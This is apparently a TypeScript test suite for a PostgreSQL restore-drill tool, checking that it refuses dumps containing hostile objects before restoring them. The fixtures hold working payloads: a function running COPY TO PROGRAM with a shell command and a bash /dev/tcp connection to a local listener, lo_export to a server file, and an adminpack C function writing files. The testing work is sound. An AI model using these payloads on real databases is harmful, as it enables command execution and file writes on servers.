/**
 * Hostile content that pg_dump itself writes, refused by `pgdrill run` before any sandbox exists — plain dumps and
 * custom archives alike. Each source database holds one attack that fires during an ordinary restore: pg_dump puts
 * `REFRESH MATERIALIZED VIEW` in the post-data section, and the view calls
 *
 * - copy-program: a PL/pgSQL function whose body runs `COPY … TO PROGRAM` (touch a file, connect to 127.0.0.1),
 * - server-file: `lo_export` of a large object to a file on the server,
 * - untrusted-function: a `LANGUAGE c` function bound to adminpack's pg_file_write, created outside an extension,
 *
 * plus alter-system: a function body that runs `ALTER SYSTEM` (the server refuses it inside a function, but the
 * scanner cannot know when a body runs, so it is refused too).
 *
 * Each drill must exit 1 naming the line and the object, restore nothing, and leave no side effect on the host
 * (no file, no connection to the test's listener). The controls restore the very same dumps into a jailed sandbox
 * the way the drill would have: the file then appears — so the refusal is what prevented it — while the connection
 * still never arrives (the jail).
 */
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { rm, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { resolveSandboxUser } from '../../src/exec/os-user.js';
import { ReportSchema, type Report } from '../../src/report/model.js';
import { createDatabase, restoreDump, restoreGlobals } from '../../src/restore/restore-dump.js';
import { SandboxCluster } from '../../src/sandbox/cluster.js';
import { runCli } from '../helpers/cli.js';
import { bins, psql, scratchDir, silentLogger, startSource, urlOf } from '../helpers/clusters.js';
import { exists } from '../helpers/leftovers.js';
import { reachableDir, settle, startListener, type Listener } from './jail-helpers.js';

interface Vector {
  readonly db: string;
  readonly kind: string;
  /** The object the refusal must name. */
  readonly object: RegExp;
  /** SQL creating the attack; FILE and PORT are replaced. */
  readonly sql: string;
  /** Does restoring it create FILE (the control)? */
  readonly fires: boolean;
}

const VECTORS: Vector[] = [
  {
    db: 'copy_program', kind: 'copy-program', object: /FUNCTION public\.exfil\(\)/, fires: true,
    sql: `CREATE FUNCTION public.exfil() RETURNS int LANGUAGE plpgsql AS $f$ BEGIN
            EXECUTE 'COPY (SELECT 1) TO PROGRAM ''touch FILE; bash -c "echo hi > /dev/tcp/127.0.0.1/PORT" 2>/dev/null; true''';
            RETURN 1; END $f$;
          CREATE MATERIALIZED VIEW public.fire AS SELECT public.exfil() AS x;`,
  },
  {
    db: 'server_file', kind: 'server-file', object: /MATERIALIZED VIEW public\.fire/, fires: true,
    sql: `SELECT lo_from_bytea(4242, 'pwned'::bytea);
          CREATE MATERIALIZED VIEW public.fire AS SELECT lo_export(4242, 'FILE') AS x;`,
  },
  {
    db: 'c_function', kind: 'untrusted-function', object: /FUNCTION public\.file_write\(text, text, boolean\)/, fires: true,
    sql: `CREATE FUNCTION public.file_write(text, text, boolean) RETURNS bigint AS '$libdir/adminpack', 'pg_file_write_v1_1' LANGUAGE c VOLATILE STRICT;
          CREATE MATERIALIZED VIEW public.fire AS SELECT public.file_write('FILE', 'pwned', false) AS x;`,
  },
  {
    db: 'alter_system', kind: 'alter-system', object: /FUNCTION public\.tune\(\)/, fires: false,
    sql: `CREATE FUNCTION public.tune() RETURNS void LANGUAGE plpgsql AS $f$ BEGIN EXECUTE 'ALTER SYSTEM SET work_mem = ''1GB'''; END $f$;`,
  },
];

describe('pgdrill run refuses hostile content that pg_dump writes, before the restore', () => {
  let dir: Awaited<ReturnType<typeof scratchDir>>;
  let reach: Awaited<ReturnType<typeof reachableDir>>;
  let source: SandboxCluster;
  let listener: Listener;
  const file = (v: Vector) => join(reach.path, `pwned-${v.db}`);
  const reports = new Map<string, Report>();
  let noOverlap: string;

  before(async () => {
    dir = await scratchDir();
    reach = await reachableDir();
    listener = await startListener();
    source = await startSource({ parentDir: dir.path, shared: [reach.path] }); // populating the view runs the attack on the source
    noOverlap = join(dir.path, 'no-overlap.yaml');
    await writeFile(noOverlap, 'backup:\n  overlap: false\n');
    for (const v of VECTORS) {
      await psql(source, 'postgres', { sql: `CREATE DATABASE ${v.db}` });
      await psql(source, v.db, { sql: 'CREATE TABLE public.t (id int PRIMARY KEY); INSERT INTO public.t SELECT generate_series(1, 10);' });
      await psql(source, v.db, { sql: v.sql.replaceAll('FILE', file(v)).replaceAll('PORT', String(listener.port)) });
      // Populating the view on the source ran the attack there once; start from a clean host.
      await rm(file(v), { force: true });
    }
    // A harmless C function (pgcrypto's digest) for the allow-list test.
    await psql(source, 'postgres', { sql: 'CREATE DATABASE c_allowed' });
    await psql(source, 'c_allowed', { sql: `CREATE FUNCTION public.my_digest(bytea, text) RETURNS bytea AS '$libdir/pgcrypto', 'pg_digest' LANGUAGE c IMMUTABLE STRICT;` });
  });
  after(async () => {
    await source?.stop();
    await listener?.[Symbol.asyncDispose]();
    await reach?.[Symbol.asyncDispose]();
    await dir?.[Symbol.asyncDispose]();
  });

  // Two drills at a time (they mostly wait on pg_dump and initdb); the control below runs after all of them.
  describe('each attack, plain and custom', { concurrency: 2 }, () => {
    for (const format of ['plain', 'custom'] as const) {
      for (const v of VECTORS) {
        test(`${format}: ${v.kind} is refused with exit 1, naming the line and ${v.object.source.replace(/\\/g, "")}; no side effect`, async () => {
          const connections = listener.connections();
          // Archives: backup.overlap would only start a sandbox early (no restore from the stream), so it is off to
          // save an initdb per drill; plain dumps keep the default, where psql is fed behind the scanner's gate.
          const cfg = format === 'custom' ? ['--config', noOverlap] : [];
          const r = await runCli(['run', '--source', urlOf(source, v.db), '--format', format, ...cfg, '--out', join(dir.path, `out-${format}-${v.db}`), '--json']);
          assert.equal(r.code, 1, r.stderr);
          const report = ReportSchema.parse(JSON.parse(r.stdout));
          reports.set(`${format}:${v.db}`, report);
          const c = report.checks.find((x) => x.name === 'content.hostile_content')!;
          assert.equal(c.status, 'fail');
          assert.match(c.detail, new RegExp(`line \\d+${format === 'custom' ? ' of the pg_restore script' : ''} \\(in ${v.object.source}\\): ${v.kind}`));
          assert.ok(report.jail!.refused.some((f) => f.kind === v.kind && v.object.test(f.object ?? '')), JSON.stringify(report.jail!.refused));
          assert.equal(report.jail!.os_user, 'pgdrill-sandbox');
          assert.equal(report.jail!.network_namespace, true);
          // Refused before the restore. With backup.overlap (the default) a sandbox was started during the dump —
          // jailed like any — and psql fed only lines the scanner approved; it is torn down without a restore.
          assert.equal(report.restore, null);
          assert.equal(report.checks.find((x) => x.name === 'restore.skipped')?.status, 'skip');
          assert.equal(report.teardown.confirmed, true, report.teardown.detail);
          await settle();
          assert.equal(await exists(file(v)), false, 'no file was created on the host');
          assert.equal(listener.connections(), connections, 'no connection reached the listener');
        });
      }
    }
  });

  test('control: the same dumps, restored as the drill would have, do fire — and the jail still stops the connection', async () => {
    const user = await resolveSandboxUser();
    // The payloads write into `reach`, which a jailed sandbox does not see: shown to this one, so they can fire.
    await using sandbox = await SandboxCluster.start({ bins: await bins(), parentDir: dir.path, osUser: user, logger: silentLogger, shared: [reach.path] });
    const connections = listener.connections();
    for (const format of ['plain', 'custom'] as const) {
      for (const v of VECTORS.filter((x) => x.fires)) {
        const report = reports.get(`${format}:${v.db}`);
        assert.ok(report, `the ${format} drill of ${v.db} ran first`);
        if (report.backup.globals?.path) await restoreGlobals(sandbox, await bins(), report.backup.globals.path);
        const db = `${v.db}_${format}`;
        await createDatabase(sandbox, db);
        await restoreDump({ sandbox, bins: await bins(), path: report.backup.path!, format, database: db, logger: silentLogger });
        assert.equal(await exists(file(v)), true, `${format} ${v.db}: restoring the refused dump creates ${file(v)}`);
        await rm(file(v), { force: true });
      }
    }
    await settle();
    assert.equal(listener.connections(), connections, 'the copy-program payload tried 127.0.0.1 twice and never got through');
  });

  test('sandbox.allow.functions lets a named C function through; without it the same dump is refused', async () => {
    const refused = await runCli(['run', '--source', urlOf(source, 'c_allowed'), '--format', 'custom', '--out', join(dir.path, 'out-c-refused'), '--json']);
    assert.equal(refused.code, 1, refused.stderr);
    const r1 = ReportSchema.parse(JSON.parse(refused.stdout));
    assert.match(r1.checks.find((x) => x.name === 'content.hostile_content')!.detail, /untrusted-function/);
    const cfg = join(dir.path, 'allow.yaml');
    await writeFile(cfg, 'sandbox:\n  allow:\n    functions: [public.my_digest]\n');
    const allowed = await runCli(['run', '--source', urlOf(source, 'c_allowed'), '--config', cfg, '--format', 'custom', '--out', join(dir.path, 'out-c-allowed'), '--json']);
    assert.equal(allowed.code, 0, allowed.stderr + allowed.stdout.slice(0, 2000));
    const r2 = ReportSchema.parse(JSON.parse(allowed.stdout));
    assert.equal(r2.checks.find((x) => x.name === 'content.hostile_content')!.status, 'pass');
    assert.deepEqual(r2.jail!.allowed.functions, ['public.my_digest']);
    assert.deepEqual(r2.jail!.refused, []);
    assert.equal(r2.restore?.os_user, 'pgdrill-sandbox');
  });
});
